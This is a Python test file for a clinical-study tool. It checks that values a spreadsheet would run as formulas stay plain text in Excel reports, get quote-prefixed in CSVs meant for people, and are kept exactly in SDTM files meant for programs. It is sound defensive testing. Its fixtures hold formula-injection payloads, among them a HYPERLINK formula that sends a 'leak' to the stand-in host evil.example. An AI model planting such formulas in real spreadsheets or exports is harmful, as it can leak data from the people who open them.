"""Issue #16 item 11: values from the data that a spreadsheet would run as formulas stay text.

The Excel report writes every text cell as text (never a formula) and numbers as numbers;
human-facing CSV files prefix such text with a single quote (OWASP); files for programs
(SDTM datasets, ``mscohort export``) keep every value exactly and round-trip."""

from __future__ import annotations

import shutil
import zipfile
from pathlib import Path

import polars as pl
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from mscohort.analyse.study import analyse_study
from mscohort.cli.main import app
from mscohort.definition import load_definition
from mscohort.ingest import read_study
from mscohort.ingest.formulas import formula_cells, neutralise, safe_csv
from mscohort.interop.sdtm_export import write_sdtm
from mscohort.interop.sdtm_import import read_sdtm
from mscohort.report import build_report
from mscohort.store import StudyStore, import_folder
from mscohort.validate import check_study
from tests.conftest import AS_OF
from tests.interop.conftest import assert_same_study
from tests.report.conftest import TOY

EVIL_ID = "=1+2"
EVIL_COHORT = '=HYPERLINK("http://evil.example/?leak","open")'


@pytest.fixture(scope="module")
def evil_toy(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The toy study with patient P01 renamed ``=1+2`` and its cohort a hyperlink formula,
    and P02's site ``@SUM(1)``."""
    folder = tmp_path_factory.mktemp("evil") / "toy"
    shutil.copytree(TOY, folder)
    for path in folder.glob("*.csv"):
        text = path.read_text().replace("P01,", f'"{EVIL_ID}",')
        if path.name == "patients.csv":
            lines = text.splitlines()
            quoted = '"' + EVIL_COHORT.replace('"', '""') + '"'  # CSV quoting
            lines[1] = lines[1].replace("ALE-experienced", quoted)
            lines[2] = lines[2].replace("Clinic A", "@SUM(1)")
            text = "\n".join(lines) + "\n"
        path.write_text(text)
    return folder


def test_the_excel_report_writes_formula_like_text_as_text(evil_toy: Path,
                                                           tmp_path: Path) -> None:
    study, report = check_study(read_study(evil_toy), as_of=AS_OF)
    assert report.ok, report.format_text()
    assert EVIL_ID in study.table("patients")["patient_id"].to_list()
    analysis = analyse_study(study, load_definition(evil_toy / "study.toml"))
    (path,) = build_report(study, analysis).write(tmp_path / "r.xlsx")
    with zipfile.ZipFile(path) as z:  # no formula anywhere in the workbook
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)
    wb = load_workbook(path)  # formulas would load as data_type "f"
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    evil = [c for c in cells if c.value == EVIL_ID]
    assert evil and all(c.data_type == "s" and c.quotePrefix for c in evil)
    assert any(c.value == EVIL_COHORT for c in cells)
    numbers = [c for c in cells if isinstance(c.value, int | float)
               and not isinstance(c.value, bool)]
    assert numbers and all(c.data_type == "n" for c in numbers)
    outcomes = wb["outcomes per patient"]
    header = [c.value for c in outcomes[1]]
    changes = [r[header.index("edss_change")] for r in outcomes.iter_rows(min_row=2,
                                                                           values_only=True)]
    assert any(isinstance(c, float) and c < 0 for c in changes)  # negative numbers stay numbers


@pytest.mark.parametrize(("value", "written"), [
    ("=1+2", "'=1+2"), ("+SUM(A1)", "'+SUM(A1)"), ("-2+3", "'-2+3"), ("@SUM(1)", "'@SUM(1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-0.3 ± 1.0", "'-0.3 ± 1.0"),
    ("-1.5", "-1.5"), ("+3", "+3"), ("-2e-3", "-2e-3"), ("1=1", "1=1"), ("P01", "P01"),
    ("'quoted", "'quoted"), (None, None),
], ids=repr)
def test_csv_text_for_people_is_neutralised_but_numbers_are_not(value, written) -> None:
    frame = pl.DataFrame({"text": [value], "number": [-1.5]})
    assert neutralise(frame).row(0) == (written, -1.5)
    back = pl.read_csv(safe_csv(frame).encode(), infer_schema=False)
    assert back["number"].to_list() == ["-1.5"]  # a negative number stays a number


def test_formula_cells_counts_what_a_spreadsheet_would_run() -> None:
    frame = pl.DataFrame({"a": ["=1", "-1", "x", None], "b": ["@x", "+2", "-y", "z"],
                          "n": [1, 2, 3, 4]})
    assert formula_cells(frame) == 3


def test_analysis_results_csv_is_neutralised(evil_toy: Path, tmp_path: Path) -> None:
    study, _ = check_study(read_study(evil_toy), as_of=AS_OF)
    analysis = analyse_study(study, load_definition(evil_toy / "study.toml"))
    analysis.write(tmp_path / "results")
    text = (tmp_path / "results" / "outcomes.csv").read_text()
    assert f"'{EVIL_ID}," in text and f"\n{EVIL_ID}," not in text
    # the typed copies for programs keep the value exactly
    assert EVIL_ID in pl.read_parquet(tmp_path / "results" / "outcomes.parquet")[
        "patient_id"].to_list()


def test_program_files_keep_values_exactly_and_round_trip(evil_toy: Path,
                                                          tmp_path: Path) -> None:
    # a registry expects SDTM identifiers as collected: the SDTM CSV is not prefixed, and
    # reading it back gives the same study; the export command says which files to open
    # as text
    study, _ = check_study(read_study(evil_toy), as_of=AS_OF)
    write_sdtm(study, tmp_path / "sdtm")
    dm = pl.read_csv(tmp_path / "sdtm" / "dm.csv", infer_schema=False)
    assert f"TOY-{EVIL_ID}" in dm["USUBJID"].to_list() or EVIL_ID in dm["SUBJID"].to_list()
    back, report = check_study(read_sdtm(tmp_path / "sdtm"), as_of=AS_OF)
    assert report.errors.height == 0
    assert_same_study(back, study)
    db = tmp_path / "s.duckdb"
    import_folder(evil_toy, db, as_of=AS_OF)
    runner = CliRunner()
    r = runner.invoke(app, ["export", "--db", str(db), "--out", str(tmp_path / "out"),
                            "--format", "csv"])
    assert r.exit_code == 0, r.output
    assert "patients.csv" in r.output and "begin with =, +, -, @" in r.output
    exported = pl.read_csv(tmp_path / "out" / "patients.csv", infer_schema=False)
    with StudyStore(db, read_only=True) as store:
        stored = store.read("patients")
    assert exported["patient_id"].to_list() == stored["patient_id"].to_list()
    assert exported["cohort"].to_list() == stored["cohort"].to_list()
    r = runner.invoke(app, ["sdtm-export", "--db", str(db), "--out", str(tmp_path / "s2")])
    assert r.exit_code == 0 and "dm.csv" in r.output and "as text" in r.output


def test_control_characters_in_the_data_do_not_break_the_excel_report(tmp_path: Path) -> None:
    from openpyxl import Workbook

    from mscohort.report.excel import _append

    wb = Workbook()
    _append(wb.active, ["P\x01", "=1\x02", -2.5])
    wb.save(tmp_path / "c.xlsx")
    row = [c for c in load_workbook(tmp_path / "c.xlsx").active[1]]
    assert [c.value for c in row] == ["P\ufffd", "=1\ufffd", -2.5]
    assert [c.data_type for c in row] == ["s", "s", "n"]
